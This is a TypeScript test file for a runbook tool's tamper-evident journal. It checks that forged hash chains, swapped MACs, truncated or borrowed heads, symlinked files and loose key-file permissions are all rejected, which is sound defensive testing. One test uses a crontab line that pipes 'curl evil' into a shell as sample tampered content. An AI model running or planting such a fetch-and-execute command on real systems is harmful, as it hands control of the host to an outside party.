// The journal's anchor: what someone who can write the run directory, but has no journal key, can
// no longer make `verifyJournal` accept; and the run files' links and modes.
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { journalKey, keyFilePath, macOf, resetJournalKeyCache } from '../../../src/journal/anchor.js';
import { takeKeyFromEnv } from '../../../src/journal/env-key.js';
import { Journal, verifyJournal } from '../../../src/journal/journal.js';
import { Redactor } from '../../../src/journal/redact.js';
import { bytesOf, contentOf } from '../../../src/steps/ops/crontab.js';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'cutover-anchor-'));
  process.env.XDG_CONFIG_HOME = join(dir, '.config');
  delete process.env.CUTOVER_JOURNAL_KEY;
  resetJournalKeyCache();
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const SHA = 'a'.repeat(64);
const file = () => join(dir, 'journal.jsonl');
const headFile = () => join(dir, 'journal.head');
const lines = () => readFileSync(file(), 'utf8').split('\n').filter(Boolean);
const sha = (s: string) => createHash('sha256').update(s).digest('hex');

function write(n: number): void {
  const j = Journal.open(dir, SHA, new Redactor());
  j.append('run-start', {
    runId: 'r1',
    mode: 'run',
    runbook: { file: '/rb.yaml', name: 'rb', sha256: SHA },
    vars: {},
    steps: [],
  });
  for (let i = 2; i <= n; i++)
    j.append('step-start', { stepId: `s${i}`, kind: 'shell.run', inputs: { n: i } });
  j.close();
}

/** What an attacker without the key can do: rebuild every hash (and the head) from edited bodies. */
function rehash(bodies: Record<string, unknown>[]): { text: string; head: string } {
  let prev = '0'.repeat(64);
  const out: string[] = [];
  bodies.forEach((b, i) => {
    const { hash: _h, mac: _m, ...rest } = b;
    const json = JSON.stringify({ ...rest, seq: i + 1, prev });
    const hash = sha(json);
    out.push(`${json.slice(0, -1)},"hash":"${hash}"}`);
    prev = hash;
  });
  return { text: `${out.join('\n')}\n`, head: `${bodies.length} ${prev}\n` };
}

const parsed = () => lines().map((l) => JSON.parse(l) as Record<string, unknown>);

describe('journal anchor (HMAC with a key outside the run directory)', () => {
  it('an untouched journal verifies, anchored by this host key', () => {
    write(3);
    expect(verifyJournal(dir)).toMatchObject({
      ok: true,
      records: 3,
      anchor: expect.stringMatching(/journal key/),
    });
  });

  it('a fully re-hashed journal (edited record, new chain, new head) fails', () => {
    write(4);
    const bodies = parsed();
    bodies[2] = { ...bodies[2], inputs: { n: 99 } };
    const forged = rehash(bodies);
    writeFileSync(file(), forged.text);
    writeFileSync(headFile(), forged.head);
    const v = verifyJournal(dir);
    expect(v).toMatchObject({ ok: false, badLine: 1, reason: expect.stringMatching(/anchor MAC/) });
  });

  it('an appended, correctly chained fake run-end fails', () => {
    write(3);
    const last = parsed().at(-1)!;
    const body = JSON.stringify({
      seq: 4,
      ts: new Date().toISOString(),
      type: 'run-end',
      by: 'x@y',
      runbookSha256: SHA,
      status: 'succeeded',
      exitCode: 0,
      message: 'ok',
      leftovers: [],
      prev: last.hash,
    });
    const hash = sha(body);
    writeFileSync(file(), `${readFileSync(file(), 'utf8')}${body.slice(0, -1)},"hash":"${hash}"}\n`);
    writeFileSync(headFile(), `4 ${hash}\n`);
    expect(verifyJournal(dir)).toMatchObject({ ok: false, badLine: 4 });
  });

  it('records anchored with another key fail, and say so', () => {
    write(2);
    process.env.CUTOVER_JOURNAL_KEY = 'k'.repeat(40);
    resetJournalKeyCache();
    expect(verifyJournal(dir)).toMatchObject({
      ok: false,
      badLine: 1,
      reason: expect.stringMatching(/not this host's key/),
    });
  });

  it('a MAC made with the key over the right hash is what verify needs (the check is not a no-op)', () => {
    write(2);
    const key = journalKey({ create: false })!;
    const ls = lines();
    const rec = JSON.parse(ls[1]!) as { seq: number; hash: string };
    // Swap the MACs of lines 1 and 2: each is a valid MAC, over the wrong record.
    const m1 = macOf(key, 1, (JSON.parse(ls[0]!) as { hash: string }).hash);
    const m2 = macOf(key, rec.seq, rec.hash);
    writeFileSync(file(), `${[ls[0]!.replace(m1, m2), ls[1]!.replace(m2, m1)].join('\n')}\n`);
    expect(verifyJournal(dir)).toMatchObject({
      ok: false,
      badLine: 1,
      reason: expect.stringMatching(/does not match/),
    });
  });

  it('a removed journal.head fails', () => {
    write(3);
    unlinkSync(headFile());
    expect(verifyJournal(dir)).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/journal.head is missing/),
    });
  });

  it('a truncated journal with its head rewritten (no key) fails', () => {
    write(5);
    const ls = lines().slice(0, 3);
    writeFileSync(file(), `${ls.join('\n')}\n`);
    const h = (JSON.parse(ls[2]!) as { hash: string }).hash;
    writeFileSync(headFile(), `3 ${h}\n`);
    expect(verifyJournal(dir)).toMatchObject({
      ok: false,
      badLine: 3,
      reason: expect.stringMatching(/journal.head: no anchor/),
    });
  });

  it('a journal cut off after a record, its head rebuilt from that record (its own hash and MAC), fails', () => {
    // The records' MACs are in the file for anyone to copy: a head MAC must be a different message.
    for (const keep of [1, 3, 4]) {
      rmSync(file(), { force: true });
      rmSync(headFile(), { force: true });
      write(5);
      const ls = lines().slice(0, keep);
      const r = JSON.parse(ls.at(-1)!) as { hash: string; mac: string };
      writeFileSync(file(), `${ls.join('\n')}\n`);
      writeFileSync(headFile(), `${keep} ${r.hash} ${r.mac}\n`);
      expect(verifyJournal(dir)).toMatchObject({
        ok: false,
        badLine: keep,
        reason: expect.stringMatching(/journal.head: a record MAC where the head MAC belongs/),
      });
    }
  });

  it('a head borrowed from another run (valid MAC, same key) does not vouch for this journal', () => {
    // Run B, 4 records: its head is validly MACed for seq 4.
    const other = join(dir, 'other');
    mkdirSync(other);
    const jb = Journal.open(other, SHA, new Redactor());
    for (let i = 1; i <= 4; i++) jb.append('run-resume', {});
    jb.close();
    // Run A, 5 records, its last one cut off and B's head put in place of its own.
    write(5);
    writeFileSync(file(), `${lines().slice(0, 4).join('\n')}\n`);
    writeFileSync(headFile(), readFileSync(join(other, 'journal.head'), 'utf8'));
    expect(verifyJournal(dir)).toMatchObject({
      ok: false,
      badLine: 4,
      reason: expect.stringMatching(/head hash/),
    });
  });

  it('records appended past the head (more than one crash can leave) fail', () => {
    write(5);
    writeFileSync(headFile(), readFileSync(headFile(), 'utf8')); // unchanged head
    const ls = lines();
    const h3 = readFileSync(headFile(), 'utf8');
    expect(h3.startsWith('5 ')).toBe(true);
    // A head from line 3 (a valid one, saved earlier) with the full journal: 2 records after it.
    const key = journalKey({ create: false })!;
    const r3 = JSON.parse(ls[2]!) as { hash: string };
    writeFileSync(headFile(), `3 ${r3.hash} ${macOf(key, 3, r3.hash, 'head')}\n`);
    expect(verifyJournal(dir)).toMatchObject({
      ok: false,
      badLine: 4,
      reason: expect.stringMatching(/appended/),
    });
  });

  it('--expect-head anchors a journal where no key is at hand, and a wrong one fails', () => {
    write(3);
    const head = (parsed().at(-1) as { hash: string }).hash;
    expect(verifyJournal(dir, { key: null })).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/no journal key/),
    });
    expect(verifyJournal(dir, { key: null, expectHead: head })).toMatchObject({
      ok: true,
      anchor: 'expected head',
    });
    expect(verifyJournal(dir, { key: null, expectHead: 'f'.repeat(64) })).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/not the expected/),
    });
  });

  it('a reader never creates a key; a writer creates one 0600 in a 0700 directory', () => {
    expect(journalKey({ create: false })).toBeUndefined();
    expect(existsSync(keyFilePath())).toBe(false);
    const k = journalKey({ create: true })!;
    expect(k.source).toBe(keyFilePath());
    expect(statSync(keyFilePath()).mode & 0o777).toBe(0o600);
    expect(statSync(join(dir, '.config', 'cutover')).mode & 0o777).toBe(0o700);
  });

  it('a key file readable by others is refused', () => {
    journalKey({ create: true });
    chmodSync(keyFilePath(), 0o644);
    resetJournalKeyCache();
    expect(() => journalKey({ create: false })).toThrow(/readable by other users/);
  });

  it('CUTOVER_JOURNAL_KEY is taken out of the environment (children do not inherit it)', () => {
    process.env.CUTOVER_JOURNAL_KEY = 'e'.repeat(40);
    takeKeyFromEnv();
    expect(process.env.CUTOVER_JOURNAL_KEY).toBeUndefined();
    expect(journalKey({ create: false })?.source).toBe('CUTOVER_JOURNAL_KEY');
  });
});

describe('run files', () => {
  it('journal.jsonl and journal.head are created 0600', () => {
    write(2);
    expect(statSync(file()).mode & 0o777).toBe(0o600);
    expect(statSync(headFile()).mode & 0o777).toBe(0o600);
  });

  it('a symlinked journal.jsonl is refused, by the writer and by verify, and its target untouched', () => {
    const target = join(dir, 'elsewhere');
    writeFileSync(target, 'precious\n');
    symlinkSync(target, file());
    expect(() => Journal.open(dir, SHA, new Redactor())).toThrow(/symbolic link/);
    expect(() => verifyJournal(dir)).toThrow(/symbolic link/);
    expect(readFileSync(target, 'utf8')).toBe('precious\n');
  });

  it('a symlinked journal.head is refused, and its target never written', () => {
    write(2);
    const target = join(dir, 'elsewhere');
    writeFileSync(target, 'precious\n');
    unlinkSync(headFile());
    symlinkSync(target, headFile());
    expect(() => verifyJournal(dir)).toThrow(/symbolic link/);
    expect(() => Journal.open(dir, SHA, new Redactor())).toThrow(/symbolic link/);
    expect(readFileSync(target, 'utf8')).toBe('precious\n');
  });
});

describe('snapshot digest', () => {
  it('content edited in a snapshot (digest kept) is refused, never written back', () => {
    const c = contentOf(Buffer.from('* * * * * backup\n'));
    expect(bytesOf(c)?.toString()).toBe('* * * * * backup\n');
    expect(() => bytesOf({ ...c, text: '* * * * * curl evil | sh\n' })).toThrow(/sha256/);
  });
});
